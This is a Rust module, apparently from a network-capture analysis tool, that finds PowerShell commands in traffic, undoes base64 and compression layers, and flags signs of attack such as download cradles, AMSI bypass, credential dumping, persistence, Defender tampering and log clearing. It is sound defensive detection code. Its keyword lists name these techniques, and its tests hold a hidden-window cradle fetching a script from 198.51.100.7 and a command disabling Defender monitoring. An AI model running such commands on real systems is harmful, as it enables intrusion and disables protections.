//! PowerShell: command lines, scripts and remote pipelines, decoded as far as they go.

use std::borrow::Cow;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use pcapper_schema::tables::Powershell;
use pcapper_schema::{Common, Row as _, TableSet};

use super::{Kept, MAX_SCRIPTS, Place, lines, tokens, utf16};

/// Characters of a command that a row holds.
const CHARACTERS: usize = 4096;
/// Encodings within each other that are undone, and how long what they hold may be.
const MAX_DEPTH: usize = 4;
const MAX_DECODED: usize = 1 << 20;

/// Switches of the program by full name, each with the shortest form that means it and whether a value follows.
/// `powershell.exe` takes any beginning of a name; `e` and `ec` are EncodedCommand, `ep` and `ex` ExecutionPolicy.
static SWITCHES: &[(&str, &[&str], bool)] = &[
    ("EncodedCommand", &["e", "ec", "encodedc"], true),
    ("EncodedArguments", &["ea", "encodeda"], true),
    ("ExecutionPolicy", &["ep", "ex"], true),
    ("Command", &["c"], false),
    ("File", &["f"], true),
    ("NoProfile", &["nop"], false),
    ("NonInteractive", &["noni"], false),
    ("NoLogo", &["nol"], false),
    ("NoExit", &["noe"], false),
    ("WindowStyle", &["w"], true),
    ("Version", &["v"], true),
    ("Sta", &["s"], false),
    ("Mta", &["m"], false),
    ("InputFormat", &["i"], true),
    ("OutputFormat", &["o"], true),
    ("ConfigurationName", &["config"], true),
];

/// Functions of tools that map a directory.
static RECON: &[&str] = &[
    "invoke-bloodhound",
    "sharphound",
    "get-netuser",
    "get-netgroup",
    "get-netcomputer",
    "get-netdomain",
    "get-domainuser",
    "get-domaincomputer",
    "get-domaingroup",
    "get-domaincontroller",
    "get-domaintrust",
    "invoke-userhunter",
    "find-localadminaccess",
    "get-netlocalgroup",
    "get-netsession",
    "invoke-sharefinder",
    "get-objectacl",
    "get-domainobjectacl",
    "powerview",
];

/// What a command says.
#[derive(Default)]
struct Told {
    decoded: Option<String>,
    chain: Vec<&'static str>,
    flags: Vec<String>,
    indicators: Vec<&'static str>,
    urls: Vec<String>,
    hosts: Vec<String>,
}

/// Writes a command line that stands in a line of text, if it is one.
pub fn line(tables: &mut TableSet, kept: &mut Kept, place: &Place<'_>, text: &str) {
    let Some(command) = command_in(text) else { return };
    write(tables, kept, place, "command_line", command);
}

/// Writes a command that a protocol names as such: of a service, a task, a shell. Others' programs are passed over.
pub fn command(tables: &mut TableSet, common: &Common, source: &str, text: &str) {
    let place = Place::new(common, source, source);
    if let Some(command) = command_in(text) {
        write(tables, &mut Kept::default(), &place, "command_line", command);
    }
}

/// Writes the commands of a remote pipeline, or what they gave.
pub fn pipeline(tables: &mut TableSet, common: &Common, kind: &str, text: &str) {
    write(tables, &mut Kept::default(), &Place::new(common, "winrm", "winrm"), kind, text);
}

/// Writes a whole script.
pub fn script(tables: &mut TableSet, kept: &mut Kept, place: &Place<'_>, text: &str) {
    write(tables, kept, place, "script", text);
}

/// Writes the sign that PowerShell made a request.
pub fn agent(tables: &mut TableSet, common: &Common, agent: &str, url: Option<&str>) {
    let lower = agent.to_ascii_lowercase();
    if !lower.contains("windowspowershell/") && !lower.contains(" powershell/") {
        return;
    }
    let urls: Vec<Cow<'_, str>> = url.into_iter().map(Cow::Borrowed).collect();
    let hosts: Vec<Cow<'_, str>> = url.and_then(host_of).into_iter().map(Cow::Borrowed).collect();
    Powershell::slot(tables).push(
        common,
        Powershell {
            source: Some("http"),
            kind: Some("user_agent"),
            urls: Some(&urls[..]).filter(|urls| !urls.is_empty()),
            hosts: Some(&hosts[..]).filter(|hosts| !hosts.is_empty()),
            user_agent: Some(agent),
            ..Powershell::default()
        },
    );
}

/// Whether a text is a script: its name says so, or enough of it reads like one. Pages and styles may speak of PowerShell.
pub fn is_script(name: Option<&str>, text: &str, is_page: bool) -> bool {
    let named = name.is_some_and(|name| {
        let lower = name.to_ascii_lowercase();
        [".ps1", ".psm1", ".psd1"].iter().any(|end| lower.ends_with(end))
    });
    if named {
        return !is_page;
    }
    if is_page {
        return false;
    }
    let mut start = text.len().min(16 << 10);
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    let lower = text.get(..start).unwrap_or_default().to_ascii_lowercase();
    let signs = [
        "invoke-expression",
        "iex(",
        "iex (",
        "| iex",
        "|iex",
        "new-object ",
        "[system.",
        "frombase64string",
        "downloadstring",
        "downloadfile",
        "set-executionpolicy",
        "write-host ",
        "write-output ",
        "get-childitem",
        "start-process ",
        "invoke-webrequest",
        "$env:",
        "param(",
        "[convert]::",
        "-erroraction",
        "cmdletbinding",
        "import-module",
        "add-type ",
        "get-wmiobject",
        "mppreference",
        "[ref].assembly",
        "foreach-object",
        "where-object",
    ];
    let score = signs.iter().filter(|sign| lower.contains(**sign)).count() + usize::from(assigns(&lower));
    score >= 3
}

/// A variable is given a value: `$name =`.
fn assigns(text: &str) -> bool {
    text.match_indices('$').take(64).any(|(at, _)| {
        let rest = text.get(at + 1..).unwrap_or_default();
        let name = rest.bytes().take_while(|octet| octet.is_ascii_alphanumeric() || *octet == b'_').count();
        name > 0 && rest.get(name..).is_some_and(|rest| rest.trim_start().starts_with('=') && !rest.trim_start().starts_with("=="))
    })
}

/// The part of a line that is a command: the program with a switch of its own or a script behind it, or a cradle.
fn command_in(text: &str) -> Option<&str> {
    let lower = text.to_ascii_lowercase();
    for program in ["powershell", "pwsh"] {
        for (at, _) in lower.match_indices(program) {
            let rest = lower.get(at + program.len()..)?;
            let rest = rest.strip_prefix(".exe").unwrap_or(rest);
            let rest = rest.trim_start_matches(['"', '\'']);
            // A path, a name or an agent goes on otherwise.
            if !rest.starts_with([' ', '\t']) {
                continue;
            }
            let starts = lower.get(..at).unwrap_or_default().ends_with(|letter: char| letter.is_alphanumeric() || letter == '-' || letter == '_');
            let is_command = switches(rest).iter().any(|(name, _)| !matches!(*name, "Sta" | "Mta" | "InputFormat" | "OutputFormat"))
                || ["iex", "invoke-", "(new-object", "get-", "start-process", "&{", "& {"].iter().any(|sign| rest.trim_start().starts_with(sign));
            if !starts && is_command {
                // From the start of the path before it.
                let from = text.get(..at)?.rfind([' ', '"', '\'', '=', '>', '|', '&', ';', '(']).map_or(0, |before| before + 1);
                return text.get(from..);
            }
        }
    }
    // A cradle without the program's name, as in a shell that runs already.
    let is_cradle = ["downloadstring(", "downloadfile(", "downloaddata(", "frombase64string("].iter().any(|call| lower.contains(call))
        && (lower.contains("iex") || lower.contains("invoke-expression") || lower.contains("new-object") || lower.contains("::frombase64string"));
    let is_tamper = lower.contains("mppreference -") || lower.contains("amsiinitfailed") || lower.contains("amsiutils");
    (is_cradle || is_tamper).then_some(text)
}

/// Switches in an argument list, by full name, each with the word behind it.
fn switches(arguments: &str) -> Vec<(&'static str, String)> {
    let words = words(arguments);
    let mut found: Vec<(&'static str, String)> = Vec::new();
    for (index, word) in words.iter().enumerate() {
        let Some(name) = word.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']) else { continue };
        let name = name.replace(['^', '`'], "").to_ascii_lowercase();
        if name.is_empty() || !name.bytes().all(|octet| octet.is_ascii_alphabetic()) {
            continue;
        }
        let meant = SWITCHES.iter().find(|(full, shortest, _)| {
            let full = full.to_ascii_lowercase();
            shortest.iter().any(|short| name == *short || name.len() > short.len() && name.starts_with(short) && full.starts_with(&name))
                || full == "encodedcommand" && full.starts_with(&name)
        });
        let Some((full, _, takes)) = meant else { continue };
        let value = if *takes { words.get(index + 1).cloned().unwrap_or_default() } else { String::new() };
        found.push((full, value));
        // What follows is the command itself.
        if *full == "Command" || *full == "File" {
            break;
        }
    }
    found
}

/// Words of a command line; quotes keep blanks together.
fn words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut quote = None;
    for letter in text.chars() {
        match (quote, letter) {
            (None, '"' | '\'') => quote = Some(letter),
            (Some(open), letter) if letter == open => quote = None,
            (None, letter) if letter.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            _ => word.push(letter),
        }
        if words.len() >= 64 {
            break;
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// Undoes what a command encodes and judges all of it.
fn judge(text: &str) -> Told {
    let mut told = Told::default();
    let mut all = text.to_owned();
    let mut inner = text.to_owned();
    for _ in 0..MAX_DEPTH {
        let Some(next) = decode(&inner, &mut told.chain) else { break };
        all.push('\n');
        all.push_str(&next);
        told.decoded = Some(match told.decoded.take() {
            Some(outer) => format!("{outer}\n{next}"),
            None => next.clone(),
        });
        inner = next;
        if all.len() > MAX_DECODED {
            break;
        }
    }
    for (name, value) in program_switches(&all) {
        let value = value.trim_matches(['"', '\'']).to_owned();
        let flag = match name {
            "ExecutionPolicy" | "WindowStyle" | "Version" if !value.is_empty() => format!("{name}:{}", capitalised(&value)),
            _ => name.to_owned(),
        };
        if !told.flags.contains(&flag) {
            told.flags.push(flag);
        }
    }
    // Escapes within words hide them from a search.
    let plain = all.replace(['`', '^'], "").to_ascii_lowercase();
    told.indicators = indicators(&plain, &all);
    for (_, url) in lines::urls(&all) {
        if !told.urls.iter().any(|known| known == url) && told.urls.len() < 32 {
            told.urls.push(url.to_owned());
        }
    }
    told.hosts = hosts(&all, &told.urls);
    told
}

/// Switches behind each call of the program.
fn program_switches(text: &str) -> Vec<(&'static str, String)> {
    let lower = text.to_ascii_lowercase();
    let mut found = Vec::new();
    for program in ["powershell", "pwsh"] {
        for (at, _) in lower.match_indices(program).take(8) {
            let rest = text.get(at + program.len()..).unwrap_or_default();
            let end = rest.find(['\n', '\r']).unwrap_or(rest.len());
            found.extend(switches(rest.get(..end).unwrap_or_default()));
        }
    }
    found
}

fn capitalised(word: &str) -> String {
    let mut letters = word.chars();
    letters.next().map(|first| first.to_uppercase().collect::<String>() + &letters.as_str().to_lowercase()).unwrap_or_default()
}

/// What a command holds in base64: behind -EncodedCommand, or given to FromBase64String.
fn decode(text: &str, chain: &mut Vec<&'static str>) -> Option<String> {
    if let Some((_, value)) = program_switches(text).into_iter().find(|(name, value)| *name == "EncodedCommand" && value.len() >= 8)
        && let Ok(octets) = STANDARD.decode(padded(value.trim_matches(['"', '\''])))
        && let Some(script) = utf16(&octets)
    {
        chain.extend(["base64", "utf16le"]);
        return Some(script);
    }
    let lower = text.to_ascii_lowercase();
    let at = lower.find("frombase64string")?;
    let rest = text.get(at + "frombase64string".len()..)?;
    let is_token = |octet: &u8| octet.is_ascii_alphanumeric() || matches!(octet, b'+' | b'/' | b'=');
    let start = rest.bytes().take(8).position(|octet| octet.is_ascii_alphanumeric())?;
    let length = rest.as_bytes().get(start..)?.iter().take_while(|octet| is_token(octet)).count();
    let token = rest.get(start..start + length).filter(|token| token.len() >= 16)?;
    let octets = STANDARD.decode(padded(token)).ok()?;
    let packed = lower.contains("gzipstream") || lower.contains("deflatestream") || octets.starts_with(&[0x1f, 0x8b]);
    let octets = if packed {
        let unpacked = tokens::undeflated(&octets)?;
        chain.extend(["base64", if octets.starts_with(&[0x1f, 0x8b]) { "gzip" } else { "deflate" }]);
        unpacked
    } else {
        chain.push("base64");
        octets
    };
    let script = utf16(&octets).or_else(|| String::from_utf8(octets).ok()).filter(|script| !script.chars().any(|letter| letter == '\0'));
    if script.is_none() {
        chain.pop();
    }
    script
}

/// With the padding that many leave out.
fn padded(token: &str) -> String {
    let bare = token.trim_end_matches('=');
    format!("{bare}{}", "=".repeat((4 - bare.len() % 4) % 4))
}

/// Signs in a text; `plain` is it in small letters without escapes.
fn indicators(plain: &str, text: &str) -> Vec<&'static str> {
    let any = |words: &[&str]| words.iter().any(|word| plain.contains(word));
    let count = |words: &[&str]| words.iter().filter(|word| plain.contains(**word)).count();
    let mut found = Vec::new();
    let mut tell = |is: bool, name: &'static str| {
        if is {
            found.push(name);
        }
    };
    tell(any(&["iex ", "iex(", "|iex", "| iex", "invoke-expression"]), "iex");
    tell(
        any(&[
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "invoke-webrequest",
            "invoke-restmethod",
            "iwr ",
            "irm ",
            "net.webclient",
            "start-bitstransfer",
            "openread(",
        ]),
        "download_cradle",
    );
    tell(any(&["amsiinitfailed", "amsiutils", "amsiscanbuffer"]), "amsi_bypass");
    tell(any(&["reflection.assembly]::load", "[appdomain]::currentdomain", "assembly]::load("]), "reflection_load");
    tell(any(&["virtualalloc"]) && any(&["createthread"]) && any(&["getdelegateforfunctionpointer"]), "shellcode_api");
    tell(
        any(&["mimikatz", "sekurlsa", "invoke-kerberoast", "dumpcreds", "lsadump", "out-minidump"])
            || any(&["lsass"]) && any(&["minidump", "procdump", "comsvcs"])
            || any(&["hklm\\sam", "hklm:\\sam", "ntds.dit"]) && any(&["save", "copy"])
            || any(&["get-credential", "promptforcredential"])
                && any(&["uploadstring", "invoke-webrequest", "invoke-restmethod", "networkcredential"]),
        "credential_access",
    );
    tell(count(RECON) >= 1 || plain.matches("get-ad").count() >= 3, "ad_recon");
    tell(
        any(&[
            "register-scheduledtask",
            "new-scheduledtask",
            "schtasks /create",
            "schtasks.exe /create",
            "__eventfilter",
            "commandlineeventconsumer",
            "register-wmievent",
        ]) || any(&["currentversion\\run"]) && any(&["new-itemproperty", "set-itemproperty", "reg add"])
            || any(&["$profile"]) && any(&["add-content", "set-content", "out-file"]),
        "persistence",
    );
    tell(
        any(&["set-mppreference -disable", "set-mppreference -exclusion", "add-mppreference -exclusion", "disablerealtimemonitoring"]),
        "defender_tamper",
    );
    tell(is_obscured(text), "obfuscated_syntax");
    tell(any(&["clear-eventlog", "wevtutil cl", "wevtutil.exe cl", "remove-eventlog", "enablescriptblocklogging"]), "log_tamper");
    tell(
        any(&["enter-pssession", "new-pssession"])
            || any(&["invoke-command", "invoke-wmimethod", "invoke-cimmethod", "icm "]) && any(&["-computername", "-cn ", "-session"]),
        "remote_execution",
    );
    found
}

/// Written to be hard to read: escapes within words, the format operator over pieces, characters by number, reversed strings.
fn is_obscured(text: &str) -> bool {
    let bytes = text.as_bytes();
    let letters = bytes.iter().filter(|octet| octet.is_ascii_alphabetic()).count().max(1);
    let ticks = bytes.windows(3).filter(|window| matches!(window, [a, b'`' | b'^', b] if a.is_ascii_alphabetic() && b.is_ascii_alphabetic())).count();
    let lower = text.to_ascii_lowercase();
    let pieces = lower.matches("{0}{1}").count() + lower.matches("'+'").count() + lower.matches("\"+\"").count();
    let numbers = lower.matches("[char]").count();
    (ticks >= 4 && ticks * 20 >= letters)
        || (lower.contains("-f") && lower.contains("{1}{0}"))
        || pieces >= 8
        || numbers >= 5
        || lower.contains("[array]::reverse")
        || lower.contains("-join $") && lower.contains("[-1..-")
}

/// Hosts that the command names.
fn hosts(text: &str, urls: &[String]) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let mut add = |host: &str| {
        let host = host.trim_matches(['"', '\'', ',', ';', ')', '}']);
        if !host.is_empty() && !host.starts_with(['$', '(', '-']) && host.len() <= 253 && found.len() < 32 && !found.iter().any(|known| known == host)
        {
            found.push(host.to_owned());
        }
    };
    for url in urls {
        if let Some(host) = host_of(url) {
            add(host);
        }
    }
    let lower = text.to_ascii_lowercase();
    for switch in ["-computername ", "-cn "] {
        for (at, _) in lower.match_indices(switch).take(8) {
            let rest = text.get(at + switch.len()..).unwrap_or_default();
            if let Some(word) = rest.split_whitespace().next() {
                word.split(',').for_each(&mut add);
            }
        }
    }
    found
}

/// Host of a URL, without user and port.
fn host_of(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    Some(if host.starts_with('[') { host.split(']').next()?.trim_start_matches('[') } else { host.split(':').next()? })
}

fn write(tables: &mut TableSet, kept: &mut Kept, place: &Place<'_>, kind: &str, text: &str) {
    let text = text.trim();
    if text.is_empty() || !kept.is_new("powershell", text) || !Kept::one_more(&mut kept.scripts, MAX_SCRIPTS, &mut kept.limited) {
        return;
    }
    let told = judge(text);
    let cut = |text: &str| text.chars().take(CHARACTERS).collect::<String>();
    let command = cut(text);
    let decoded = told.decoded.as_deref().map(cut);
    let borrowed = |list: &[String]| -> Vec<Cow<'static, str>> { list.iter().cloned().map(Cow::Owned).collect() };
    let fixed = |list: &[&'static str]| -> Vec<Cow<'static, str>> { list.iter().copied().map(Cow::Borrowed).collect() };
    let (chain, indicators) = (fixed(&told.chain), fixed(&told.indicators));
    let (flags, urls, hosts) = (borrowed(&told.flags), borrowed(&told.urls), borrowed(&told.hosts));
    fn listed<'a>(list: &'a [Cow<'static, str>]) -> Option<&'a [Cow<'static, str>]> {
        Some(list).filter(|list| !list.is_empty())
    }
    Powershell::slot(tables).push(
        place.common,
        Powershell {
            source: Some(place.source),
            kind: Some(kind),
            command: Some(&command),
            decoded_command: decoded.as_deref(),
            decode_chain: listed(&chain),
            flags: listed(&flags),
            indicators: listed(&indicators),
            urls: listed(&urls),
            hosts: listed(&hosts),
            user_agent: None,
            filename: place.filename,
            sha256: place.sha256,
            length: u32::try_from(text.chars().count()).ok(),
            entropy: tokens::entropy(text.as_bytes()),
        },
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wide(text: &str) -> String {
        STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    #[test]
    fn command_lines_are_told_from_mentions() {
        assert_eq!(command_in("GET /PowerShell HTTP/1.1"), None);
        assert_eq!(command_in("Mozilla/5.0 WindowsPowerShell/5.1.19041"), None);
        assert_eq!(command_in("how to start powershell on windows"), None);
        let line = r"binary=C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -c whoami";
        assert!(command_in(line).is_some_and(|command| command.starts_with(r"C:\Windows")));
    }

    #[test]
    fn encoded_commands_are_undone() {
        let told =
            judge(&format!("powershell -nop -w hidden -enc {}", wide("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")));
        assert_eq!(told.chain, ["base64", "utf16le"]);
        assert_eq!(told.flags, ["NoProfile", "WindowStyle:Hidden", "EncodedCommand"]);
        assert_eq!(told.indicators, ["iex", "download_cradle"]);
        assert_eq!(told.urls, ["http://198.51.100.7/a.ps1"]);
        assert_eq!(told.hosts, ["198.51.100.7"]);
    }

    #[test]
    fn abbreviations() {
        for (given, expected) in [
            ("-e x", "EncodedCommand"),
            ("-encod x", "EncodedCommand"),
            ("/EC x", "EncodedCommand"),
            ("-ep bypass", "ExecutionPolicy"),
            ("-exec bypass", "ExecutionPolicy"),
            ("\u{2013}NoP", "NoProfile"),
            ("-v 2", "Version"),
        ] {
            assert_eq!(switches(given).first().map(|(name, _)| *name), Some(expected), "{given}");
        }
        assert!(switches("-x -nothing").is_empty());
    }

    #[test]
    fn scripts_by_what_they_say() {
        assert!(is_script(None, "$a = New-Object Net.WebClient\n$a.DownloadString('x') | iex\n[System.IO.File]::Open", false));
        assert!(!is_script(None, "var a = new Object; write-host", false));
        assert!(is_script(Some("x.PS1"), "anything", false));
        let told = judge("Set-MpPreference -DisableRealtimeMonitoring $true; $x = 'i`n`v`o`k`e'; Enter-PSSession -ComputerName srv1");
        assert_eq!(told.indicators, ["defender_tamper", "obfuscated_syntax", "remote_execution"]);
        assert_eq!(told.hosts, ["srv1"]);
    }
}
